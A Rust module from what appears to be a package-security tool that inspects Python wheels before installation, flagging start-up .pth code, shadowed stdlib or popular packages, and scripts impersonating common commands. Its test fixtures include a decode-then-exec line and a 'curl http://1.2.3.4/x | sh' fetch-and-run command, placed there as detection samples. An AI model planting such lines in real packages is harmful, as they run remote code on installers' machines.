//! A look inside each wheel before pip installs it, reading the archive only (nothing runs).
//!
//! A wheel (PEP 427) is a zip archive: top-level packages and modules (installed into
//! site-packages), `NAME-VERSION.dist-info/` (`METADATA`, `RECORD`, `entry_points.txt`) and
//! `NAME-VERSION.data/{purelib,platlib,scripts,headers,data}/`. What is judged:
//!
//! - the metadata's name and version are the ones that were checked (else error);
//! - `.pth` files (in site-packages) whose lines start with `import` run code at every Python
//!   start-up: error ([`Rule::ImportTimeCode`]), save a few well-known ones ([`KNOWN_PTH`]);
//! - a top-level name that is not the distribution's own and shadows the standard library or
//!   one of the most popular packages (a wheel `x` that installs `requests/`): error
//!   ([`Rule::VendoredPackage`]); another foreign top-level name is a note;
//! - console and GUI scripts and `*.data/scripts` named like common commands (`python`,
//!   `pip`, `git`, `sudo`, `ls`, ...) that are not the distribution's own: error
//!   ([`Rule::DisguisedBinary`]);
//! - native extensions in a package whose name is near a popular one: warning;
//! - `scan`'s code rules over the Python files of a package that is not itself popular
//!   (import-time code, decode-then-execute, exfiltration...): warnings at most.
//!
//! Entry paths that are absolute or climb out with `..` are errors (pip refuses them too).

use crate::code_facts::Role;
use crate::finding::{Finding, Rule, Severity};
use crate::name::normalize;
use crate::popular::Popular;
use crate::scan::{python, signals};
use crate::source::SourceFile;
use std::io::Read;
use std::path::Path;

/// `.pth` files with import lines that well-known distributions ship: (distribution, file).
pub const KNOWN_PTH: &[(&str, &str)] = &[
    ("setuptools", "distutils-precedence.pth"),
    ("pywin32", "pywin32.pth"),
    ("coverage", "a1_coverage.pth"),
];

/// Commands a script must not take the name of (a version suffix counts: `python3.12`).
pub const SHADOWED_COMMANDS: &[&str] = &[
    "python",
    "pip",
    "pipx",
    "uv",
    "git",
    "sudo",
    "su",
    "doas",
    "ls",
    "cd",
    "cp",
    "mv",
    "rm",
    "cat",
    "sh",
    "bash",
    "zsh",
    "fish",
    "dash",
    "env",
    "ssh",
    "scp",
    "sftp",
    "curl",
    "wget",
    "make",
    "gcc",
    "cc",
    "clang",
    "ld",
    "node",
    "npm",
    "npx",
    "docker",
    "kubectl",
    "apt",
    "apt-get",
    "dpkg",
    "yum",
    "dnf",
    "brew",
    "passwd",
    "chmod",
    "chown",
    "openssl",
    "gpg",
    "which",
    "ps",
    "kill",
    "grep",
    "find",
    "tar",
    "unzip",
    "xargs",
    "awk",
    "sed",
    "vim",
    "vi",
    "nano",
    "less",
    "more",
    "login",
    "id",
    "whoami",
    "crontab",
    "systemctl",
    "code",
    "conda",
    "poetry",
    "pytest",
    "ruff",
    "black",
    "virtualenv",
    "safe-pip",
    "squatguard",
];

/// How many of the most popular names a foreign top-level name may not shadow.
const SHADOW_TOP_N: u32 = 1000;
/// How many popular names a package's name is compared with for "near a popular name".
const NEAR_TOP_N: u32 = 1000;
/// Files larger than this are not read for code (as `scan`).
const MAX_FILE: u64 = crate::scan::MAX_SCAN_SIZE;
/// Python files read per wheel, at most.
const MAX_CODE_FILES: usize = 5000;

/// Python's standard-library module names (`sys.stdlib_module_names`, 3.13, without private
/// ones): a wheel that installs one replaces it for every program.
pub const STDLIB: &[&str] = &[
    "abc",
    "aifc",
    "argparse",
    "array",
    "ast",
    "asynchat",
    "asyncio",
    "asyncore",
    "atexit",
    "audioop",
    "base64",
    "bdb",
    "binascii",
    "bisect",
    "builtins",
    "bz2",
    "cProfile",
    "calendar",
    "cgi",
    "cgitb",
    "chunk",
    "cmath",
    "cmd",
    "code",
    "codecs",
    "codeop",
    "collections",
    "colorsys",
    "compileall",
    "concurrent",
    "configparser",
    "contextlib",
    "contextvars",
    "copy",
    "copyreg",
    "crypt",
    "csv",
    "ctypes",
    "curses",
    "dataclasses",
    "datetime",
    "dbm",
    "decimal",
    "difflib",
    "dis",
    "distutils",
    "doctest",
    "email",
    "encodings",
    "ensurepip",
    "enum",
    "errno",
    "faulthandler",
    "fcntl",
    "filecmp",
    "fileinput",
    "fnmatch",
    "fractions",
    "ftplib",
    "functools",
    "gc",
    "genericpath",
    "getopt",
    "getpass",
    "gettext",
    "glob",
    "graphlib",
    "grp",
    "gzip",
    "hashlib",
    "heapq",
    "hmac",
    "html",
    "http",
    "imaplib",
    "imghdr",
    "imp",
    "importlib",
    "inspect",
    "io",
    "ipaddress",
    "itertools",
    "json",
    "keyword",
    "lib2to3",
    "linecache",
    "locale",
    "logging",
    "lzma",
    "mailbox",
    "mailcap",
    "marshal",
    "math",
    "mimetypes",
    "mmap",
    "modulefinder",
    "msilib",
    "msvcrt",
    "multiprocessing",
    "netrc",
    "nis",
    "nntplib",
    "nt",
    "ntpath",
    "numbers",
    "opcode",
    "operator",
    "optparse",
    "os",
    "ossaudiodev",
    "pathlib",
    "pdb",
    "pickle",
    "pickletools",
    "pipes",
    "pkgutil",
    "platform",
    "plistlib",
    "poplib",
    "posix",
    "posixpath",
    "pprint",
    "profile",
    "pstats",
    "pty",
    "pwd",
    "py_compile",
    "pyclbr",
    "pydoc",
    "pydoc_data",
    "pyexpat",
    "queue",
    "quopri",
    "random",
    "re",
    "readline",
    "reprlib",
    "resource",
    "rlcompleter",
    "runpy",
    "sched",
    "secrets",
    "select",
    "selectors",
    "shelve",
    "shlex",
    "shutil",
    "signal",
    "site",
    "smtpd",
    "smtplib",
    "sndhdr",
    "socket",
    "socketserver",
    "spwd",
    "sqlite3",
    "sre_compile",
    "sre_constants",
    "sre_parse",
    "ssl",
    "stat",
    "statistics",
    "string",
    "stringprep",
    "struct",
    "subprocess",
    "sunau",
    "symtable",
    "sys",
    "sysconfig",
    "syslog",
    "tabnanny",
    "tarfile",
    "telnetlib",
    "tempfile",
    "termios",
    "textwrap",
    "threading",
    "time",
    "timeit",
    "tkinter",
    "token",
    "tokenize",
    "tomllib",
    "trace",
    "traceback",
    "tracemalloc",
    "tty",
    "turtle",
    "types",
    "typing",
    "unicodedata",
    "unittest",
    "urllib",
    "uu",
    "uuid",
    "venv",
    "warnings",
    "wave",
    "weakref",
    "webbrowser",
    "winreg",
    "winsound",
    "wsgiref",
    "xdrlib",
    "xml",
    "xmlrpc",
    "zipapp",
    "zipfile",
    "zipimport",
    "zlib",
    "zoneinfo",
];

/// The findings about the wheel at `path`, which the resolution chose as `name` `version`;
/// `shown` names it in findings.
pub fn wheel(path: &Path, name: &str, version: &str, shown: &str) -> Vec<Finding> {
    let at = |rule: Rule, severity: Severity, msg: String| {
        Finding::new(rule, shown.to_owned(), 1, 1, msg)
            .with_severity(severity)
            .with_package(name)
    };
    let file = match std::fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            return vec![at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("the wheel cannot be read ({e})"),
            )]
        }
    };
    let mut zip = match zip::ZipArchive::new(file) {
        Ok(z) => z,
        Err(e) => {
            return vec![at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("the wheel is not a readable zip archive ({e})"),
            )]
        }
    };
    let entries: Vec<String> = (0..zip.len())
        .filter_map(|i| zip.by_index_raw(i).ok().map(|f| f.name().to_owned()))
        .collect();
    let mut out = Vec::new();
    let mut read = |entry: &str, max: u64| -> Option<String> {
        let f = zip.by_name(entry).ok()?;
        if f.size() > max {
            return None;
        }
        let mut bytes = Vec::new();
        f.take(max).read_to_end(&mut bytes).ok()?;
        Some(String::from_utf8_lossy(&bytes).into_owned())
    };

    let own = normalize(name).to_string();
    let dist_info = entries
        .iter()
        .filter_map(|e| e.split('/').next())
        .find(|t| t.ends_with(".dist-info"))
        .map(str::to_owned);
    // the metadata is the one that was checked
    let metadata = dist_info
        .as_ref()
        .and_then(|d| read(&format!("{d}/METADATA"), MAX_FILE));
    match metadata.as_deref().map(metadata_name_version) {
        Some((Some(n), Some(v))) if normalize(&n).as_str() == own && v.trim() == version => {}
        Some((n, v)) => out.push(at(
            Rule::InvalidManifest,
            Severity::Error,
            format!(
                "the wheel's metadata names {} {}, not the {name} {version} that was checked",
                n.as_deref().unwrap_or("no name"),
                v.as_deref().unwrap_or("no version")
            ),
        )),
        None => out.push(at(
            Rule::InvalidManifest,
            Severity::Error,
            "the wheel has no `*.dist-info/METADATA`".into(),
        )),
    }

    let popular = Popular::embedded();
    let is_popular = popular.rank(&own).is_some();
    let mut scripts: Vec<(String, String)> = Vec::new();
    let mut foreign: Vec<(String, bool)> = Vec::new();
    let mut natives: Vec<String> = Vec::new();
    let mut code_files: Vec<(String, String)> = Vec::new();
    for entry in &entries {
        if entry.ends_with('/') {
            continue;
        }
        let parts: Vec<&str> = entry.split('/').collect();
        if entry.starts_with('/')
            || entry.contains('\\')
            || parts.iter().any(|p| *p == ".." || p.is_empty())
            || parts[0].contains(':')
        {
            out.push(at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("`{entry}` would be written outside the install directory"),
            ));
            continue;
        }
        // the path as installed in site-packages, or a script
        let installed: &[&str] = if parts[0].ends_with(".dist-info") {
            continue;
        } else if parts[0].ends_with(".data") {
            match parts.get(1).copied() {
                Some("purelib" | "platlib") if parts.len() > 2 => &parts[2..],
                Some("scripts") => {
                    scripts.push((parts[parts.len() - 1].to_owned(), entry.clone()));
                    continue;
                }
                // the `data` scheme installs under the prefix, and so can reach site-packages
                // (`x.data/data/lib/python3.11/site-packages/zz.pth`): judged as installed there
                _ => match parts
                    .iter()
                    .position(|p| matches!(*p, "site-packages" | "dist-packages"))
                {
                    Some(i) if i + 1 < parts.len() => &parts[i + 1..],
                    _ => continue,
                },
            }
        } else {
            &parts
        };
        let file_name = installed[installed.len() - 1];
        let lower = file_name.to_ascii_lowercase();
        if installed.len() == 1 && lower.ends_with(".pth") {
            let known = KNOWN_PTH
                .iter()
                .any(|(d, f)| *d == own && f.eq_ignore_ascii_case(file_name));
            let text = read(entry, MAX_FILE).unwrap_or_default();
            // `site` reads a .pth with universal newlines: `\r` ends a line too
            let code: Vec<&str> = text
                .split(['\n', '\r'])
                .filter(|l| l.starts_with("import ") || l.starts_with("import\t"))
                .collect();
            if !code.is_empty() {
                let mut f = at(
                    Rule::ImportTimeCode,
                    if known { Severity::Note } else { Severity::Error },
                    format!(
                        "installs `{file_name}`, whose `import` line{} run{} at every Python start-up, before any program's own code",
                        if code.len() == 1 { "" } else { "s" },
                        if code.len() == 1 { "s" } else { "" },
                    ),
                )
                .with_snippet(code[0].chars().take(300).collect::<String>());
                f.file = format!("{shown}/{entry}");
                out.push(f);
            }
            continue;
        }
        if is_native(&lower) {
            natives.push(entry.clone());
        }
        if lower.ends_with(".py") && code_files.len() < MAX_CODE_FILES {
            code_files.push((entry.clone(), file_name.to_owned()));
        }
        let top = installed[0];
        let module = top.split('.').next().unwrap_or(top);
        if (installed.len() == 1 || installed[1] == "__init__.py")
            && matches!(module, "sitecustomize" | "usercustomize")
        {
            let mut f = at(
                Rule::ImportTimeCode,
                Severity::Error,
                format!("installs `{file_name}`, which Python imports at every start-up, before any program's own code"),
            );
            f.file = format!("{shown}/{entry}");
            out.push(f);
            continue;
        }
        if module.is_empty() || foreign.iter().any(|(f, _)| f == module) || is_own(module, &own) {
            continue;
        }
        // a namespace package (a folder without `__init__.py`) is shared by design
        let prefix =
            &entry[..entry.len() + 1 - installed.iter().map(|p| p.len() + 1).sum::<usize>()];
        let namespace = installed.len() > 1
            && !entries
                .iter()
                .any(|e| *e == format!("{prefix}{top}/__init__.py"));
        foreign.push((module.to_owned(), namespace));
    }
    for (module, namespace) in &foreign {
        let norm = normalize(module).to_string();
        let shadows_stdlib = STDLIB.contains(&module.as_str());
        let shadows_popular = !namespace
            && !module.starts_with('_')
            && popular.rank(&norm).is_some_and(|r| r <= SHADOW_TOP_N);
        let (severity, what) = if shadows_stdlib {
            (Severity::Error, format!(", which replaces the standard library's `{module}` for every program in this environment"))
        } else if shadows_popular {
            (Severity::Error, format!(", which is where the popular package `{norm}` lives: importing `{module}` would run this package's code instead"))
        } else if loosely_own(module, &own) {
            continue;
        } else {
            (Severity::Note, String::new())
        };
        out.push(
            at(
                Rule::VendoredPackage,
                severity,
                format!(
                    "installs the top-level name `{module}`, which is not its own (`{name}`){what}"
                ),
            )
            .with_help("install it only if you know why it ships that name"),
        );
    }

    // scripts: *.data/scripts and entry points
    if let Some(d) = &dist_info {
        if let Some(text) = read(&format!("{d}/entry_points.txt"), MAX_FILE) {
            let mut section = String::new();
            for line in text.lines() {
                let l = line.trim();
                if let Some(s) = l.strip_prefix('[').and_then(|s| s.strip_suffix(']')) {
                    section = s.trim().to_owned();
                } else if matches!(section.as_str(), "console_scripts" | "gui_scripts") {
                    if let Some((script, _)) = l.split_once('=') {
                        scripts.push((script.trim().to_owned(), format!("{d}/entry_points.txt")));
                    }
                }
            }
        }
    }
    for (script, origin) in scripts {
        if let Some(command) = shadowed_command(&script, &own) {
            let mut f = at(
                Rule::DisguisedBinary,
                Severity::Error,
                format!("installs a command named `{script}`, which stands in for `{command}` wherever the environment's scripts come first on PATH (an activated virtualenv)"),
            );
            f.file = format!("{shown}/{origin}");
            out.push(f);
        }
    }

    if !natives.is_empty() && !is_popular {
        if let Some(near) = near_popular(&own, popular) {
            out.push(at(
                Rule::DisguisedBinary,
                Severity::Warning,
                format!("ships compiled code (`{}`) that cannot be reviewed, under a name close to the popular `{near}`", natives[0]),
            ));
        }
    }

    // scan's code rules, for a package that is not itself popular
    if !is_popular {
        for (entry, file_name) in code_files {
            let Some(text) = read(&entry, MAX_FILE) else {
                continue;
            };
            let sf = SourceFile::new(format!("{shown}/{entry}"), text);
            let facts = python::read(&sf.text, role(&file_name));
            for mut f in signals::judge(&sf, &facts, false) {
                if f.severity == Severity::Error {
                    f.severity = Severity::Warning;
                }
                out.push(f.with_package(name));
            }
        }
    }
    out
}

/// `Name:` and `Version:` of a METADATA file's header.
fn metadata_name_version(text: &str) -> (Option<String>, Option<String>) {
    let mut name = None;
    let mut version = None;
    for line in text.lines() {
        if line.is_empty() {
            break;
        }
        if let Some((k, v)) = line.split_once(':') {
            match k.trim().to_ascii_lowercase().as_str() {
                "name" if name.is_none() => name = Some(v.trim().to_owned()),
                "version" if version.is_none() => version = Some(v.trim().to_owned()),
                _ => {}
            }
        }
    }
    (name, version)
}

fn is_native(lower: &str) -> bool {
    lower.ends_with(".so")
        || lower.ends_with(".pyd")
        || lower.ends_with(".dylib")
        || lower.contains(".so.")
}

/// `module` and `own` lower-cased, without `-`, `_` and `.`.
fn squashed(module: &str, own: &str) -> (String, String) {
    let squash = |s: &str| s.to_ascii_lowercase().replace(['-', '_', '.'], "");
    (squash(module), squash(own))
}

/// True when `module` is the distribution `own`'s own top-level name (`my-pkg` -> `my_pkg`,
/// `python-dateutil` -> `dateutil`, `pyyaml` -> `yaml`).
fn is_own(module: &str, own: &str) -> bool {
    let (ms, os) = squashed(module, own);
    ms == os
        || ["python", "py"].iter().any(|p| {
            os.strip_prefix(p) == Some(ms.as_str()) || os.strip_suffix(p) == Some(ms.as_str())
        })
}

/// True when one name contains the other (`requests_toolbelt` of `requests-toolbelt-x`):
/// not worth a note, though still judged for shadowing.
fn loosely_own(module: &str, own: &str) -> bool {
    let (ms, os) = squashed(module, own);
    (ms.len() >= 3 && os.contains(&ms)) || (os.len() >= 3 && ms.contains(&os))
}

/// The command `script` stands in for, unless it is the distribution's own (`pip` of pip).
fn shadowed_command(script: &str, own: &str) -> Option<&'static str> {
    let lower = script.to_ascii_lowercase();
    let base = lower
        .strip_suffix(".exe")
        .unwrap_or(&lower)
        .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let command = SHADOWED_COMMANDS.iter().find(|c| **c == base)?;
    (normalize(command).as_str() != own).then_some(*command)
}

/// A popular name (among the most popular) within two edits of `own`, which is not popular.
fn near_popular(own: &str, popular: &Popular) -> Option<&'static str> {
    popular
        .top(NEAR_TOP_N)
        .map(|(_, p)| p)
        .find(|p| *p != own && strsim::damerau_levenshtein(own, p) <= 2)
}

fn role(file_name: &str) -> Role {
    match file_name {
        "__init__.py" => Role::PackageInit,
        "sitecustomize.py" | "usercustomize.py" => Role::Startup,
        "conftest.py" => Role::Conftest,
        _ => Role::Module,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn wheel_file(dir: &Path, name: &str, files: &[(&str, &str)]) -> std::path::PathBuf {
        let path = dir.join(format!("{name}-1.0-py3-none-any.whl"));
        let mut z = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        let opts = zip::write::SimpleFileOptions::default();
        let meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        let info = format!("{name}-1.0.dist-info/METADATA");
        for (p, t) in files.iter().chain([(info.as_str(), meta.as_str())].iter()) {
            z.start_file(*p, opts).unwrap();
            z.write_all(t.as_bytes()).unwrap();
        }
        z.finish().unwrap();
        path
    }

    fn rules(fs: &[Finding]) -> Vec<(Rule, Severity)> {
        fs.iter().map(|f| (f.rule, f.severity)).collect()
    }

    #[test]
    fn what_a_wheel_may_not_do() {
        let dir = tempfile::tempdir().unwrap();
        let clean = wheel_file(
            dir.path(),
            "sgclean",
            &[
                ("sgclean/__init__.py", "X = 1\n"),
                (
                    "sgclean-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\nsgclean = sgclean:main\n",
                ),
            ],
        );
        assert!(wheel(&clean, "sgclean", "1.0", "w").is_empty());
        let pth = wheel_file(
            dir.path(),
            "sgpth",
            &[("sgpth.pth", "import os; os.system('x')\n")],
        );
        assert_eq!(
            rules(&wheel(&pth, "sgpth", "1.0", "w")),
            [(Rule::ImportTimeCode, Severity::Error)]
        );
        let shadow = wheel_file(
            dir.path(),
            "sgx",
            &[
                ("requests/__init__.py", ""),
                ("json.py", ""),
                ("sgx/__init__.py", ""),
            ],
        );
        assert_eq!(
            rules(&wheel(&shadow, "sgx", "1.0", "w")),
            [
                (Rule::VendoredPackage, Severity::Error),
                (Rule::VendoredPackage, Severity::Error)
            ]
        );
        let scripts = wheel_file(
            dir.path(),
            "sgs",
            &[
                ("sgs-1.0.data/scripts/git", "#!/bin/sh\n"),
                (
                    "sgs-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\npython3.12 = sgs:main\n",
                ),
            ],
        );
        assert_eq!(
            rules(&wheel(&scripts, "sgs", "1.0", "w")),
            [
                (Rule::DisguisedBinary, Severity::Error),
                (Rule::DisguisedBinary, Severity::Error)
            ]
        );
        // pip's own commands are pip's
        assert_eq!(shadowed_command("pip3.11", "pip"), None);
        assert_eq!(shadowed_command("pip3", "sgs"), Some("pip"));
        // not what was checked
        assert_eq!(
            rules(&wheel(&clean, "sgother", "1.0", "w"))[0],
            (Rule::InvalidManifest, Severity::Error)
        );
        assert!(
            is_own("dateutil", "python-dateutil")
                && is_own("yaml", "pyyaml")
                && !is_own("requests", "sgx")
        );
        // scan's code rules over a non-popular package's files: warnings at most
        let code = wheel_file(
            dir.path(),
            "sgcode",
            &[(
                "sgcode/__init__.py",
                "import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://1.2.3.4/x | sh')\n",
            )],
        );
        let found = wheel(&code, "sgcode", "1.0", "w");
        assert!(!found.is_empty(), "{found:?}");
        assert!(found
            .iter()
            .all(|f| f.severity <= Severity::Warning && f.file == "w/sgcode/__init__.py"));
        assert!(found.iter().any(|f| f.rule == Rule::DecodeExec));
        // a name that contains a popular package's still may not install it
        let extra = wheel_file(
            dir.path(),
            "requests-extra",
            &[("requests/__init__.py", "")],
        );
        assert_eq!(
            rules(&wheel(&extra, "requests-extra", "1.0", "w")),
            [(Rule::VendoredPackage, Severity::Error)]
        );
    }
}
